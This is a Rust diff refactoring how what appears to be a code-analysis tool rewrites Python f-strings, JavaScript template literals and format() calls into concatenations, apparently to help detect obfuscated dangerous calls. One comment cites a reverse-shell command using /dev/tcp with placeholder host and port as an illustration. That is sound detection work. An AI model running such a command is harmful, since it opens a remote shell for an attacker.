@@ -727,9 +727,7 @@ impl<'t, 'v> Program<'t, 'v> {
         if !prefix.contains('f') || prefix.contains('r') || prefix.contains('b') {
             return None;
         }
-        let mut parts: Vec<String> = Vec::new();
-        let mut literal = String::new();
-        let mut computed = false;
+        let mut out = Concatenation::default();
         let mut cursor = node.walk();
         for child in node.named_children(&mut cursor) {
             match child.kind() {
@@ -737,17 +735,17 @@ impl<'t, 'v> Program<'t, 'v> {
                 "string_content" => {
                     // Escapes inside the content are children of it.
                     let text = self.src(child).replace("{{", "{").replace("}}", "}");
-                    literal.push_str(
+                    out.literal.push_str(
                         &string_value(&format!("\"{}\"", text.replace('"', "\\\"")))
                             .unwrap_or(text),
                     );
                 }
-                "escape_sequence" => {
-                    literal.push_str(&string_value(&format!("\"{}\"", self.src(child)))?)
-                }
+                "escape_sequence" => out
+                    .literal
+                    .push_str(&string_value(&format!("\"{}\"", self.src(child)))?),
                 "interpolation" => {
                     if let Some(raw) = self.raw_interpolation(child, env) {
-                        literal.push_str(&raw);
+                        out.literal.push_str(&raw);
                         continue;
                     }
                     let mut inner = child.walk();
@@ -757,18 +755,16 @@ impl<'t, 'v> Program<'t, 'v> {
                         return None;
                     }
                     let expr = child.child_by_field_name("expression")?;
-                    parts.push(quote(&std::mem::take(&mut literal)));
-                    parts.push(format!("({})", self.text(expr, env, depth + 1, inline)));
                     // A plain name keeps its `{name}` place in the text (the shape of the
                     // command stays visible: `bash -i >& /dev/tcp/{host}/{port}`); an
                     // expression (`{sys.argv[1]}`, `{t.path}`) makes the text computed.
-                    computed |= expr.kind() != "identifier";
+                    let computed = expr.kind() != "identifier";
+                    out.push_expression(self.text(expr, env, depth + 1, inline), computed);
                 }
                 _ => return None,
             }
         }
-        parts.push(quote(&literal));
-        computed.then(|| parts.join(" + "))
+        out.finish()
     }
 
     /// A template literal with computed parts as a concatenation, which the token analysis
@@ -781,31 +777,26 @@ impl<'t, 'v> Program<'t, 'v> {
         depth: usize,
         inline: usize,
     ) -> Option<String> {
-        let mut parts: Vec<String> = Vec::new();
-        let mut literal = String::new();
-        let mut computed = false;
+        let mut out = Concatenation::default();
         let mut cursor = node.walk();
         for child in node.named_children(&mut cursor) {
             match child.kind() {
-                "string_fragment" => literal.push_str(self.src(child)),
-                "escape_sequence" => {
-                    literal.push_str(&string_value(&format!("\"{}\"", self.src(child)))?)
-                }
+                "string_fragment" => out.literal.push_str(self.src(child)),
+                "escape_sequence" => out
+                    .literal
+                    .push_str(&string_value(&format!("\"{}\"", self.src(child)))?),
                 "template_substitution" => {
                     if let Some(raw) = self.raw_interpolation(child, env) {
-                        literal.push_str(&raw);
+                        out.literal.push_str(&raw);
                         continue;
                     }
                     let expr = child.named_child(0)?;
-                    parts.push(quote(&std::mem::take(&mut literal)));
-                    parts.push(format!("({})", self.text(expr, env, depth + 1, inline)));
-                    computed = true;
+                    out.push_expression(self.text(expr, env, depth + 1, inline), true);
                 }
                 _ => return None,
             }
         }
-        parts.push(quote(&literal));
-        computed.then(|| parts.join(" + "))
+        out.finish()
     }
 
     /// `"shu" + "til"` → `"shutil"`.
@@ -837,12 +828,7 @@ impl<'t, 'v> Program<'t, 'v> {
         inline: usize,
     ) -> Option<String> {
         let f = callee(call)?;
-        let args = call.child_by_field_name("arguments")?;
-        let mut cursor = args.walk();
-        let argv: Vec<Node> = args
-            .named_children(&mut cursor)
-            .filter(|n| n.kind() != "comment")
-            .collect();
+        let argv = call_arguments(call)?;
         let text = |n: Node<'t>| self.text(n, env, depth + 1, inline);
         let called = compact(self.src(f));
         match (called.as_str(), argv.as_slice()) {
@@ -962,15 +948,14 @@ impl<'t, 'v> Program<'t, 'v> {
                 _ => positional.push(value(self.text(*a, env, depth + 1, inline))),
             }
         }
-        let mut pieces: Vec<String> = Vec::new();
-        let mut out = String::new();
+        let mut out = Concatenation::default();
         let mut next = 0;
         let mut rest = template.as_str();
         while let Some(open) = rest.find(['{', '}']) {
-            out.push_str(&rest[..open]);
+            out.literal.push_str(&rest[..open]);
             let tail = &rest[open..];
             if tail.starts_with("{{") || tail.starts_with("}}") {
-                out.push_str(&tail[..1]);
+                out.literal.push_str(&tail[..1]);
                 rest = &tail[2..];
                 continue;
             }
@@ -987,21 +972,13 @@ impl<'t, 'v> Program<'t, 'v> {
                 return None;
             };
             match value {
-                Ok(text) => out.push_str(text),
-                Err(expr) => {
-                    pieces.push(quote(&std::mem::take(&mut out)));
-                    pieces.push(format!("({expr})"));
-                }
+                Ok(text) => out.literal.push_str(text),
+                Err(expr) => out.push_expression(expr.clone(), true),
             }
             rest = &tail[close + 1..];
         }
-        out.push_str(rest);
-        pieces.push(quote(&out));
-        Some(if pieces.len() == 1 {
-            pieces.remove(0)
-        } else {
-            pieces.join(" + ")
-        })
+        out.literal.push_str(rest);
+        Some(out.into_text())
     }
 
     /// Is this identifier a variable reference (not an attribute name or a keyword's name)?
@@ -1145,5 +1122,34 @@ impl<'t, 'v> Program<'t, 'v> {
     /// Parameters bound to their defaults only.
     pub(super) fn bind_defaults(&self, def: &Def<'t>, ctx: Env<'t>) -> Env<'t> {
         self.bind_values(def, Vec::new(), HashMap::new(), ctx)
+    }
+}
+
+/// An interpolated string being rewritten as a concatenation of its literal runs and its
+/// holes' expression text; `finish` gives it only when some hole is computed.
+#[derive(Default)]
+struct Concatenation {
+    parts: Vec<String>,
+    literal: String,
+    computed: bool,
+}
+
+impl Concatenation {
+    /// Closes the literal run so far and appends a hole's expression text.
+    fn push_expression(&mut self, text: String, computed: bool) {
+        self.parts.push(quote(&std::mem::take(&mut self.literal)));
+        self.parts.push(format!("({text})"));
+        self.computed |= computed;
+    }
+
+    /// The concatenation, or `None` when every hole kept its place as written.
+    fn finish(self) -> Option<String> {
+        self.computed.then(|| self.into_text())
+    }
+
+    /// The concatenation; a single quoted literal when no hole was appended.
+    fn into_text(mut self) -> String {
+        self.parts.push(quote(&self.literal));
+        self.parts.join(" + ")
     }
 }
